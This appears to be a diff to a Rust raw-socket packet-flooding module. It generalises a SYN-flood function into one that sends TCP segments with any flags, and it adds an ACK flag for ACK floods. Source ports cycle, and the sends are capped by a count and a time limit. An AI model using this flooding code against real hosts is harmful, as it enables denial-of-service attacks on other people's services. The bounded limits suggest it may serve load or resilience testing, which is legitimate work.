@@ -11,7 +11,9 @@ use std::{
 };
 
 /// TCP flag bits of a crafted segment.
-const SYN: u8 = 0x02;
+pub const SYN: u8 = 0x02;
+/// ACK: a bare ACK to a closed port looks like a segment of a connection its host forgot.
+pub const ACK: u8 = 0x10;
 const TCP_HEADER: usize = 20;
 
 /// What a flood sent.
@@ -33,6 +35,18 @@ pub fn syn_flood(
     count: u64,
     limit: Duration,
 ) -> io::Result<FloodReport> {
+    send_segments(source, target, SYN, count, limit)
+}
+
+/// Sends up to `count` segments with TCP `flags` from `source` (ports cycling upward from its
+/// port) to `target`, stopping early after `limit`.
+pub fn send_segments(
+    source: SocketAddrV4,
+    target: SocketAddrV4,
+    flags: u8,
+    count: u64,
+    limit: Duration,
+) -> io::Result<FloodReport> {
     let socket = raw_tcp_socket()?;
     let start = Instant::now();
     let destination = libc::sockaddr_in {
@@ -47,7 +61,7 @@ pub fn syn_flood(
     while sent < count && start.elapsed() < limit {
         // Ports 1024..=65535, never 0.
         let port = 1024 + ((u64::from(source.port()) + sent) % 64_512) as u16;
-        let segment = tcp_segment(*source.ip(), port, target, SYN, sent as u32);
+        let segment = tcp_segment(*source.ip(), port, target, flags, sent as u32);
         // SAFETY: `segment` and `destination` are valid for the lengths given.
         let written = unsafe {
             libc::sendto(
